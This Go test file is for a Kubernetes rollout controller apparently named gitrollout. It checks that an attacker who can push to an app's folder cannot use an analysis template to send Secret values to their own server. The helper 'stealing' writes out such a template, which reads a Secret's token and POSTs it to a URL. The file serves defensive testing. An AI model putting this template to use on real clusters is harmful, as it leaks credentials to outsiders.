package main

import (
	"fmt"
	"testing"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"gitrollout.dev/gitrollout/rollout"
)

// stealing returns a version of an app with a measurement. The measurement sends the value of a Secret's key `token` to url.
func stealing(tag, secret, url string) map[string]string {
	return with(judgedVersion(tag, url), map[string]string{"load.yaml": fmt.Sprintf(`apiVersion: gitrollout.dev/v1alpha1
kind: AnalysisTemplate
metadata: {name: load}
spec:
  args: [{name: token, valueFrom: {secretKeyRef: {name: %s, key: token}}}]
  metrics:
  - name: load
    successCondition: result < 0.5
    provider: {web: {url: %s, method: POST, body: "{{args.token}}", jsonPath: "{$.load}"}}
`, secret, url)})
}

// TestATokenIsNotSent acts as an attacker who may push to an app's folder. No Secret of the app's namespace or of
// gitrollout's namespace may reach the attacker's server, unless the Secret has the label for analyses.
func TestATokenIsNotSent(t *testing.T) {
	url, sent := serveLoad(t, func() string { return "0.1" })
	w := newLoopWorld(t, stealing("v1", "password", url))
	w.namespaces = append(w.namespaces, rollout.OwnNamespace)
	namespaces, secrets := w.kube.Kube.CoreV1().Namespaces(), w.kube.Kube.CoreV1().Secrets
	own := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: rollout.OwnNamespace}}
	_, err := namespaces.Create(t.Context(), own, metav1.CreateOptions{})
	if err != nil && !apierrors.IsAlreadyExists(err) {
		t.Fatal(err)
	}
	for ns, name := range map[string]string{rollout.OwnNamespace: w.app + "-token", w.ns: "password"} {
		secret := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: name}, StringData: map[string]string{"token": "s3cr3t"}}
		must(t, errorOf(secrets(ns).Create(t.Context(), secret, metav1.CreateOptions{})))
	}
	p := w.startHealthy()
	first := w.repo.Head()

	// Push two versions that move the app to the namespace of gitrollout, to use a Secret there. Both must be held.
	for _, tag := range []string{"v1", "v2"} {
		theirs := stealing(tag, w.app+"-token", url)
		theirs["kustomization.yaml"] = "namespace: " + rollout.OwnNamespace + "\n" + theirs["kustomization.yaml"]
		w.push("there, "+tag, theirs)
		p.wantHeld(rollout.HeldForbidden, "which belongs to gitrollout and to no app")
		p.passWell(3)
		if s := w.state(); s.Held == nil || s.Source != first {
			t.Fatalf("at %s, held %+v", s.Source, s.Held)
		}
	}

	// Use a Secret without the label in the app's namespace. Nothing may be sent, and the release must fail with an error that has the fix.
	w.push("here", stealing("v2", "password", url))
	p.wantRejected("kubectl -n " + w.ns + " label secret password gitrollout.dev/analysis=true")
	if n := sent.Load(); n > 0 {
		t.Fatalf("%d requests reached the attacker's server", n)
	}
	label := []byte(`{"metadata": {"labels": {"gitrollout.dev/analysis": "true"}}}`)
	must(t, errorOf(secrets(w.ns).Patch(t.Context(), "password", "application/merge-patch+json", label, metav1.PatchOptions{})))
	w.push("labelled", stealing("v3", "password", url))
	p.await("measured", pausedAt(2))
	if sent.Load() == 0 {
		t.Error("a Secret that is for analyses is not used")
	}
}
